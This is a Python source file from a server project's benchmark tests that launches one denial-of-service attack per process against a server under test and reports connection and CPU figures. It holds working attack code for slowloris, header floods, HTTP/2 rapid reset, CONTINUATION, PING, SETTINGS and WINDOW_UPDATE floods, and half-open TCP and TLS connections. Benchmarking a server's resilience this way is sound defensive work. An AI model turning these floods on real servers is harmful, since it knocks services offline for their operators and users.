"""The attackers: one process, one kind of attack, from one address, until its stdin ends.

`python -m tests.bench.attacks KIND URL SOURCE` prints `up` once it goes on, and at its end a line of JSON: connections made,
how many of them the server closed, bytes sent and processor time. It runs only when nobody else wants its core (SCHED_IDLE).
"""

import errno
import os
import select
import socket
import struct
import sys
import time
from collections.abc import Callable
from dataclasses import asdict, dataclass
from urllib.parse import urlsplit

import orjson
from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame

from tests.bench.machine import raise_files
from tests.h2client import PREFACE

_RESET = struct.pack("ii", 1, 0)
_BLOCK = 64 * 1024
_HEAD = b"GET /v1/jobs/stream HTTP/1.1\r\nHost: feed\r\n"


class Connection:
    """One of the attacker's; `streams` is the last stream it has opened."""

    __slots__ = ("connected", "out", "sent", "sock", "streams")

    def __init__(self, sock: socket.socket) -> None:
        self.sock = sock
        self.connected = False
        self.streams = -1
        self.sent = 0  # pieces
        self.out = b""


@dataclass(frozen=True, slots=True)
class Attack:
    """`more` is what a connection sends next, `pace` seconds apart (0: as fast as it can); None: nothing, ever."""

    says: str
    connections: int
    more: Callable[[Connection], bytes | None]
    pace: float = 0.0
    answered: bool = False
    """It sends on when something has come."""
    leaves: bool = False
    """It resets every connection as soon as it is there."""
    spins: bool = False
    tls: bool = False
    """It is against the port that speaks TLS."""


@dataclass(slots=True)
class Done:
    """What an attacker did."""

    made: int = 0
    closed: int = 0
    sent: int = 0
    held: int = 0
    """Connections that were open at the end."""
    seconds: float = 0.0
    cpu: float = 0.0


def _nothing(_: Connection) -> None:
    return None


def _dribble(one: Connection) -> bytes:
    return _HEAD if one.sent == 0 else b"X"


def _huge_heads(one: Connection) -> bytes:
    return _HEAD + b"X: x\r\n" * 10_000 if one.sent == 0 else b"X: x\r\n" * 10_000


def _request(stream: int, *, ended: bool = True) -> bytes:
    # Nothing is indexed, so the same octets are good on every connection.
    return HeadersFrame(stream, _PLAIN, flags=["END_HEADERS", "END_STREAM"] if ended else []).serialize()


def _literal(name: bytes, value: bytes) -> bytes:
    """A field that is not to be indexed (RFC 7541, 6.2.2)."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


_PLAIN = (
    _literal(b":method", b"GET") + _literal(b":path", b"/v1/jobs/stream") + _literal(b":scheme", b"http")
    + _literal(b":authority", b"feed")
)  # fmt: skip


def _greeted(one: Connection, more: bytes) -> bytes:
    return PREFACE + SettingsFrame().serialize() + more if one.sent == 0 else more


def _rapid_resets(one: Connection) -> bytes:
    frames = []
    for _ in range(500):
        one.streams += 2
        frames += [_request(one.streams), RstStreamFrame(one.streams, 8).serialize()]
    return _greeted(one, b"".join(frames))


def _requests(one: Connection) -> bytes:
    frames = []
    for _ in range(100):
        one.streams += 2
        frames.append(_request(one.streams))
    return _greeted(one, b"".join(frames))


_CONTINUATIONS = ContinuationFrame(1, b"\x00\x01x\x7f\x00" + b"y" * 127).serialize() * 400
_PINGS = PingFrame(opaque_data=b"flooding").serialize() * 3_000
_SETTINGS = SettingsFrame(settings={4: 65_535}).serialize() * 3_000
_DENIED = b"GET /v1/jobs?limit=1 HTTP/1.1\r\nHost: feed\r\nAuthorization: Bearer feed_nonsense\r\n\r\n" * 4
_HELLO = bytes.fromhex("16030100c8010000c40303")
_WINDOWS = b"\x00\x00\x04\x08\x00\x00\x00\x00\x00\x00\x00\x00\x01" * 3_000


ATTACKS = {
    "nothing": Attack("nobody attacks", 0, _nothing),
    "a busy neighbour": Attack("nobody attacks, and the attacker's processor time is used up", 0, _nothing, spins=True),
    "slowloris": Attack("500 heads that dribble in", 500, _dribble, pace=0.2),
    "header flood": Attack("50 connections send heads without end", 50, _huge_heads),
    "rapid reset": Attack("HEADERS and RST_STREAM on 10 connections", 10, _rapid_resets),
    "refused streams": Attack("requests for streams on 200 connections, as fast as they can", 200, _requests),
    "CONTINUATION flood": Attack("CONTINUATION without end on 10 connections", 10, lambda one: _greeted(
        one, (_request(1, ended=False) if one.sent == 0 else b"") + _CONTINUATIONS)),
    "PING flood": Attack("PING on 10 connections", 10, lambda one: _greeted(one, _PINGS)),
    "SETTINGS flood": Attack("SETTINGS on 10 connections", 10, lambda one: _greeted(one, _SETTINGS)),
    "WINDOW_UPDATE flood": Attack("WINDOW_UPDATE on 10 connections", 10, lambda one: _greeted(one, _WINDOWS)),
    "half-open": Attack("10,000 connections that say nothing", 10_000, _nothing),
    "half-open TLS": Attack("10,000 connections whose handshake does not come", 10_000, _nothing, tls=True),
    "churn": Attack("connect and reset, as fast as it can", 64, _nothing, leaves=True),
    "bad credentials": Attack("20 connections with a key that is none", 20, lambda _: _DENIED, answered=True),
}  # fmt: skip


class Attacker:
    """All connections of an attack, behind one epoll."""

    def __init__(self, attack: Attack, url: str, source: str) -> None:
        where = urlsplit(url)
        self._attack = attack
        self._address = (str(where.hostname), int(where.port or 80))
        self._source = source
        self._poll = select.epoll()
        self._stdin = sys.stdin.fileno()
        self._poll.register(self._stdin, select.EPOLLIN | select.EPOLLHUP)
        self._all: dict[int, Connection] = {}
        self._due = 0.0
        self.done = Done()

    def run(self) -> None:
        """Attack until stdin ends."""
        began = time.monotonic()
        while True:
            # A few at a time, so that those that are there go on meanwhile.
            for _ in range(min(200, self._attack.connections - len(self._all))):
                if not self._connect():
                    break
            for fd, event in self._poll.poll(0.0 if self._attack.spins else 0.01, 1024):
                if fd == self._stdin:
                    self.done.seconds = time.monotonic() - began
                    self.done.held = len(self._all)
                    self.done.cpu = time.process_time()
                    return
                self._turn(self._all[fd], event)
            if self._attack.pace and time.monotonic() >= self._due:
                self._due = time.monotonic() + self._attack.pace
                for one in list(self._all.values()):
                    if one.connected:
                        self._send(one)

    def _connect(self) -> bool:
        sock = socket.socket()
        sock.setblocking(False)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, _RESET)
        sock.setsockopt(socket.SOL_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
        try:
            sock.bind((self._source, 0))
            fault = sock.connect_ex(self._address)
        except OSError:
            fault = errno.EADDRNOTAVAIL
        if fault not in (0, errno.EINPROGRESS):
            sock.close()
            return False
        self.done.made += 1
        self._all[sock.fileno()] = Connection(sock)
        self._poll.register(sock.fileno(), select.EPOLLOUT | select.EPOLLIN)
        return True

    def _turn(self, one: Connection, event: int) -> None:
        try:
            if event & (select.EPOLLERR | select.EPOLLHUP):
                raise ConnectionResetError
            if event & select.EPOLLIN:
                came = one.sock.recv(1024 * 1024)
                if not came:
                    raise ConnectionResetError
                if self._attack.answered and came.count(b"HTTP/1.1"):
                    self._send(one)
                    return
        except BlockingIOError:
            pass
        except OSError:
            self._drop(one, by_server=True)
            return
        if event & select.EPOLLOUT:
            if not one.connected:
                one.connected = True
                if self._attack.leaves:
                    self._drop(one)
                    return
                if self._attack.pace or self._attack.more is _nothing:
                    self._poll.modify(one.sock.fileno(), select.EPOLLIN)
                    return
                if self._attack.answered:
                    self._poll.modify(one.sock.fileno(), select.EPOLLIN)
            self._send(one)

    def _send(self, one: Connection) -> None:
        if not one.out:
            one.out = self._attack.more(one) or b""
            one.sent += 1
        try:
            size = one.sock.send(one.out[:_BLOCK])
        except BlockingIOError:
            return
        except OSError:
            self._drop(one, by_server=True)
            return
        self.done.sent += size
        one.out = one.out[size:]

    def _drop(self, one: Connection, *, by_server: bool = False) -> None:
        self.done.closed += by_server
        del self._all[one.sock.fileno()]
        one.sock.close()


def main() -> None:
    """The process."""
    kind, url, source = sys.argv[1:]
    os.nice(19)
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    raise_files()
    attacker = Attacker(ATTACKS[kind], url, source)
    print("up", flush=True)
    attacker.run()
    print(orjson.dumps(asdict(attacker.done)).decode(), flush=True)


if __name__ == "__main__":
    main()
